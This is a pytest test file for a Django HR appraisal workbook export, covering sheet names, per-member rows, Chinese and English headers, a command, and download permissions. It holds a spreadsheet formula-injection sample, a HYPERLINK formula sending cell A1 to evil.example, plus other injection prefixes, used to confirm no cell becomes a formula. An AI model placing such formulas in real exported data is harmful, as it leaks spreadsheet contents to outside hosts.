"""HR's appraisal workbook: sheets, one row per member, numbers as numbers, no formulas whatever
people type, both languages; the command, the download and LibreOffice opening the file."""

import datetime as dt
import io
import os
import shutil
import subprocess
import zipfile

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from django.utils import translation
from django.utils.translation import gettext
from openpyxl import load_workbook

from metrics.registry import KPI_BY_KEY
from reviews.models import AppraisalTemplate, CycleState
from reviews.services.cycles import comment_set, cycle_advance, cycle_create
from reviews.services.export import appraisals_export
from teams.models import Store
from tests.factories import MemberFactory, TeamFactory, TeamMembershipFactory
from tests.reviews.test_insights import ADMIN, AUGUST, build_example, open_cycle

pytestmark = pytest.mark.django_db
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'
COMMENTS = {"A": "\tTab first", "B": "+1", "C": "@x", "D": "-2 and =SUM(A1:A9)"}
LONG_TEAM = "售后/退换[货]:*?\\组 with a rather long team name"


@pytest.fixture
def month(tmp_path):
    """The worked example's team, finalised with the managers' comments, and two more cycles: a
    team of the same name in another store, and a team whose name no sheet may carry."""
    shop = build_example(tmp_path)
    a = shop.members["A"]
    a.display_name, a.employee_number = EVIL_NAME, "+E1001"
    a.save()
    cycle = open_cycle(shop)
    for state in (CycleState.SELF_REVIEW, CycleState.MANAGER_REVIEW):
        cycle = cycle_advance(viewer=ADMIN, user=None, cycle=cycle, to=state)
    for agent, text in COMMENTS.items():
        comment_set(viewer=ADMIN, user=None, appraisal=cycle.appraisals.get(member=shop.members[agent]), text=text)
    for state in (CycleState.CALIBRATION, CycleState.FINALISED):
        cycle = cycle_advance(viewer=ADMIN, user=None, cycle=cycle, to=state)
    other_store = Store.objects.create(name="未来衣橱旗舰店")
    template = AppraisalTemplate.objects.get(key="results-behaviour-growth")
    for store, name in ((other_store, "售前"), (shop.store, LONG_TEAM)):
        team = TeamFactory(store=store, name=name)
        TeamMembershipFactory(member=MemberFactory(display_name=f"{name[:2]} 新人"), team=team)
        cycle_create(viewer=ADMIN, user=None, store=store, team=team, month=AUGUST, template=template)
    shop.cycle = cycle
    return shop


def in_chinese(message: str) -> str:
    with translation.override("zh-hans"):
        return gettext(message)


def workbook(content: bytes):
    return load_workbook(io.BytesIO(content))


def table(ws) -> list[list]:
    return [list(row) for row in ws.iter_rows(values_only=True)]


def test_a_summary_a_sheet_per_team_and_definitions_with_valid_unique_names(month):
    book = workbook(appraisals_export(month=AUGUST, lang="en"))
    names = book.sheetnames
    assert names[0] == "Summary" and names[-1] == "Definitions" and len(names) == 5
    teams = names[1:-1]
    # The same team name in two stores: each sheet says which store.
    assert "售前 · 未来衣橱旗舰店" in teams and "售前 · 衣衣风尚专营店" in teams
    long = next(n for n in teams if n.startswith("售后"))
    assert len(long) <= 31 and not set(long) & set("[]:*?/\\")
    assert long == "售后_退换_货_____组 with a rather lon"
    assert len({n.lower() for n in names}) == len(names)
    summary = table(book["Summary"])
    assert summary[0][:6] == ["Month", "Store", "Team", "State", "Members", "Average total"]
    rows = {(r[1], r[2]): r for r in summary[1:]}
    example = rows["衣衣风尚专营店", "售前"]
    totals = [a.total for a in month.cycle.appraisals.all()]
    assert example[3] == "Finalised by HR" and example[4] == 4
    assert example[5] == pytest.approx(float(sum(totals) / 4), abs=0.005)
    grades = [a.grade for a in month.cycle.appraisals.all()]
    assert example[6:11] == [grades.count(g) for g in "SABCD"] and example[11] == 0
    assert rows["未来衣橱旗舰店", "售前"][4] == 1


def test_a_row_per_member_with_values_targets_scores_dimensions_total_grade_and_comment(month):
    book = workbook(appraisals_export(month=AUGUST, store=month.store, lang="en"))
    assert book.sheetnames == ["Summary", "售前", "售后_退换_货_____组 with a rather lon", "Definitions"]
    ws = book["售前"]
    rows = table(ws)
    header = rows[0]
    assert header[:4] == ["Employee number", "Name", "Store", "Team"]
    assert header[4:7] == ["GMV", "GMV · Target", "Inquiry-to-payment rate"]
    assert header[-3:] == ["Total", "Grade", "Manager's comment"]
    assert "AOV rank in the team · Score" in header and "Product knowledge · Score" in header
    assert "Sales results · Score" in header and "Attitude · Score" in header
    assert len(rows) == 5  # a row per member
    by_name = {r[1]: dict(zip(header, r, strict=True)) for r in rows[1:]}
    assert set(by_name) == {EVIL_NAME, "Agent B", "Agent C", "Agent D"}
    a, c = by_name[EVIL_NAME], by_name["Agent C"]
    assert a["Employee number"] == "+E1001" and a["Team"] == "售前"
    assert (a["GMV"], a["GMV · Target"], c["GMV"]) == (40000, 20000, 15000)
    assert a["Inquiry-to-payment rate"] == pytest.approx(0.4)
    assert a["Average order value"] == 400 and by_name["Agent B"]["Average order value"] == pytest.approx(333.33)
    assert a["Refunded order rate"] == pytest.approx(0.1) and a["Refunded order rate · Target"] == pytest.approx(0.05)
    # Item scores of the worked example (no ratings given: ability and attitude stay empty).
    assert (c["GMV against target · Score"], c["AOV rank in the team · Score"], c["Refunded order rate · Score"]) == (
        75, 33.33, 0,
    )  # fmt: skip
    assert c["Product knowledge · Score"] is None and c["Ability · Score"] is None
    assert a["Sales results · Score"] == pytest.approx(90.17)  # 40 + 25 + 10 + 8.5 + 6.67
    for row in by_name.values():
        appraisal = month.cycle.appraisals.get(member__display_name=row["Name"])
        assert row["Total"] == pytest.approx(float(appraisal.total)) and row["Grade"] == appraisal.grade
        assert appraisal.frozen_at is not None
    assert [by_name[n]["Manager's comment"] for n in (EVIL_NAME, "Agent B", "Agent C", "Agent D")] == list(
        COMMENTS.values()
    )
    # Money with two decimals, rates as fractions shown as percentages, scores with two decimals.
    cells = {ws.cell(1, col).value: col for col in range(1, ws.max_column + 1)}
    a_row = next(r for r in range(2, 6) if ws.cell(r, 2).value == EVIL_NAME)
    assert ws.cell(a_row, cells["GMV"]).number_format == "#,##0.00"
    assert ws.cell(a_row, cells["Inquiry-to-payment rate"]).number_format == "0.00%"
    assert ws.cell(a_row, cells["Total"]).number_format == "0.00"
    assert ws.cell(a_row, cells["Average first response (s)"]).value == 20


def test_no_cell_becomes_a_formula(month):
    content = appraisals_export(month=AUGUST, lang="en")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)
    book = workbook(content)
    texts = {}
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts[cell.value] = cell
    for text in (EVIL_NAME, "+E1001", *COMMENTS.values()):
        assert texts[text].data_type == "s"
        assert texts[text].quotePrefix  # Excel keeps it text even when the cell is edited


def test_headers_in_chinese_and_in_english(month):
    zh = workbook(appraisals_export(month=AUGUST, store=month.store, lang="zh-hans"))
    en = workbook(appraisals_export(month=AUGUST, store=month.store, lang="en"))
    zh_header, en_header = table(zh["售前"])[0], table(en["售前"])[0]
    assert zh_header[:4] == ["工号", "姓名", "店铺", "团队"]
    assert en_header[:4] == ["Employee number", "Name", "Store", "Team"]
    assert zh_header[4:6] == ["销售额", "销售额 · 目标"] and en_header[4:6] == ["GMV", "GMV · Target"]
    assert any(h.startswith("销售额完成率 · ") for h in zh_header)
    assert any(h.startswith("产品知识 · ") for h in zh_header) and any(h.startswith("销售业绩 · ") for h in zh_header)
    assert zh.sheetnames[0] == in_chinese("Summary") and en.sheetnames[0] == "Summary"
    assert len(zh_header) == len(en_header)
    zh_gmv = next(r for r in table(zh.worksheets[-1]) if r[6] == "gmv")
    en_gmv = next(r for r in table(en.worksheets[-1]) if r[6] == "gmv")
    assert zh_gmv[7] == "销售额" and zh_gmv[8] == KPI_BY_KEY["gmv"].definition_zh
    assert en_gmv[7] == "GMV" and en_gmv[8] == KPI_BY_KEY["gmv"].definition_en


def test_definitions_give_every_item_its_weight_kpi_rule_and_parameters_and_the_grade_bands(month):
    rows = table(workbook(appraisals_export(month=AUGUST, store=month.store, lang="en"))["Definitions"])
    assert rows[0][:10] == ["Template", "Dimension", "Dimension weight", "Item", "Item weight", "Kind", "KPI key",
                            "KPI", "Definition", "Scoring rule"]  # fmt: skip
    seed_003 = AppraisalTemplate.objects.get(key="sales-ability-attitude").name_en
    bands_at = rows.index(["Template", "Grade", "Total from", "Total below", "Calibration guide", *[None] * 9])
    items = {r[3]: r for r in rows[1:bands_at] if r and r[0] == seed_003}
    # Both templates in use: seed 003's 12 items, seed 000's 9.
    assert len([r for r in rows[1:bands_at] if r and r[0] and r[4] is not None]) == 21
    gmv = items["GMV against target"]
    assert gmv[2] == pytest.approx(0.8) and gmv[4] == pytest.approx(0.4) and gmv[6] == "gmv"
    assert gmv[9] == "Linear from a floor to the target, capped"
    assert gmv[10] == 0 and gmv[11] == "The member's target of the month"
    refund = items["Refunded order rate"]
    assert (refund[10], refund[11]) == (pytest.approx(0.2), pytest.approx(0.05))
    assert items["Average first response"][12] == "≤ 60 → 40; ≤ 30 → 70; ≤ 20 → 85; ≤ 15 → 100"
    assert items["AOV rank in the team"][9] == "Rank within the team"
    knowledge = items["Product knowledge"]
    assert knowledge[5] == "Rating, 1–5" and knowledge[13] == "Manager 70%, Self 30%"
    assert knowledge[8].startswith("1 often wrong on products")
    # Each template's own bands and calibration guide (both use the default ones here).
    bands = [r[1:5] for r in rows[bands_at + 1 :] if r[0] == seed_003]
    assert bands == [["S", 90, None, pytest.approx(0.1)], ["A", 80, 90, pytest.approx(0.2)],
                     ["B", 70, 80, pytest.approx(0.4)], ["C", 60, 70, pytest.approx(0.2)],
                     ["D", 0, 60, pytest.approx(0.1)]]  # fmt: skip


def test_the_command_writes_the_workbook_and_says_what_is_wrong(month, tmp_path, capsys):
    out = tmp_path / "hr.xlsx"
    call_command("export_appraisals", "--month", "2026-08", "--store", month.store.name, "--lang", "en",
                 "--out", str(out))  # fmt: skip
    assert "2 cycles, 5 appraisals" in capsys.readouterr().out
    assert workbook(out.read_bytes()).sheetnames[1] == "售前"
    call_command("export_appraisals", "--month", "2026-08", "--out", str(out))
    assert workbook(out.read_bytes()).sheetnames[0] == in_chinese("Summary")  # Chinese by default
    for args, message in (
        (["--month", "2026-13"], "YYYY-MM"),
        (["--month", "August"], "YYYY-MM"),
        (["--month", "2026-08", "--store", "No such shop"], "Unknown store 'No such shop'. Stores: 未来衣橱旗舰店"),
        (["--month", "2026-07"], "No appraisal cycles for 2026-07"),
    ):
        with pytest.raises(CommandError, match=message):
            call_command("export_appraisals", *args, "--out", str(tmp_path / "x.xlsx"))


@pytest.fixture
def libreoffice() -> str:
    """The LibreOffice binary; skipped without one unless CI requires it."""
    binary = shutil.which("libreoffice") or shutil.which("soffice")
    if binary is None:
        if os.environ.get("PERFMGMT_REQUIRE_LIBREOFFICE") == "1":
            pytest.fail("PERFMGMT_REQUIRE_LIBREOFFICE=1 but libreoffice is not on PATH")
        pytest.skip("libreoffice is not installed (CI installs it and sets PERFMGMT_REQUIRE_LIBREOFFICE=1)")
    return binary


def test_libreoffice_opens_the_workbook_and_prints_it(libreoffice, month, tmp_path):
    source = tmp_path / "appraisals.xlsx"
    source.write_bytes(appraisals_export(month=AUGUST, lang="zh-hans"))
    out, home = tmp_path / "pdf", tmp_path / "home"
    home.mkdir()
    done = subprocess.run(
        [libreoffice, "--headless", "--norestore", "--convert-to", "pdf", "--outdir", str(out), str(source)],
        capture_output=True, text=True, timeout=180, env={**os.environ, "HOME": str(home)}, check=False,
    )  # fmt: skip
    pdf = out / "appraisals.pdf"
    assert done.returncode == 0 and pdf.exists(), (done.stdout, done.stderr)
    assert pdf.stat().st_size > 1000 and pdf.read_bytes().startswith(b"%PDF")


# --- the download ------------------------------------------------------------------------------


@pytest.fixture
def cycles(org):
    from reviews.services.templates import appraisal_templates_ensure

    appraisal_templates_ensure()
    template = AppraisalTemplate.objects.get(key="sales-ability-attitude")
    for store, team in ((org.s1, org.x), (org.s2, org.z)):
        cycle_create(viewer=ADMIN, user=None, store=store, team=team, month=AUGUST, template=template)
    return org


def download(client_for, user, **params):
    return client_for(user).get(reverse("reviews:export"), {"month": "2026-08", **params})


def test_hr_and_admins_download_every_store_managers_their_own(cycles, client_for):
    org = cycles
    for name in ("hr", "admin"):
        response = download(client_for, org.users[name], lang="en")
        assert response.status_code == 200
        assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        assert (
            "attachment" in response["Content-Disposition"] and "appraisals-2026-08" in response["Content-Disposition"]
        )
        assert workbook(response.content).sheetnames == ["Summary", "Z", "售前X", "Definitions"]  # by store name
    one_store = download(client_for, org.users["hr"], store=org.s2.pk, lang="en")
    assert workbook(one_store.content).sheetnames == ["Summary", "Z", "Definitions"]
    # A manager: their store, asked for or not; never another's.
    for params in ({}, {"store": org.s1.pk}):
        response = download(client_for, org.users["manager_s1"], lang="en", **params)
        assert response.status_code == 200 and workbook(response.content).sheetnames == ["Summary", "售前X",
                                                                                         "Definitions"]  # fmt: skip
    # Another store is outside the manager's scope: not found, as a store that does not exist.
    assert download(client_for, org.users["manager_s1"], store=org.s2.pk).status_code == 404
    assert download(client_for, org.users["manager_s1"], store=987654).status_code == 404
    assert download(client_for, org.users["hr"], store=987654).status_code == 404
    zh = download(client_for, org.users["hr"], lang="zh-hans")
    assert workbook(zh.content).sheetnames[0] == in_chinese("Summary")


def test_everyone_else_is_refused_and_a_bad_month_is_a_bad_request(cycles, client_for):
    org = cycles
    for name in ("staff_a", "lead_x", "nobody"):
        assert download(client_for, org.users[name]).status_code == 403
    assert download(client_for, org.users["hr"], month="2026-8x").status_code == 400
    assert download(client_for, org.users["hr"], store="abc").status_code == 400
    anonymous = client_for(org.users["hr"])
    anonymous.logout()
    assert anonymous.get(reverse("reviews:export"), {"month": "2026-08"}).status_code == 302  # to the login page


def test_an_export_of_a_month_without_cycles_is_a_valid_empty_workbook(db):
    book = workbook(appraisals_export(month=dt.date(2030, 1, 1), lang="en"))
    assert book.sheetnames == ["Summary", "Definitions"]
    assert len(table(book["Summary"])) == 1
    # No template in use: no items, and no grade bands under their header.
    assert table(book["Definitions"])[-1][:5] == ["Template", "Grade", "Total from", "Total below", "Calibration guide"]
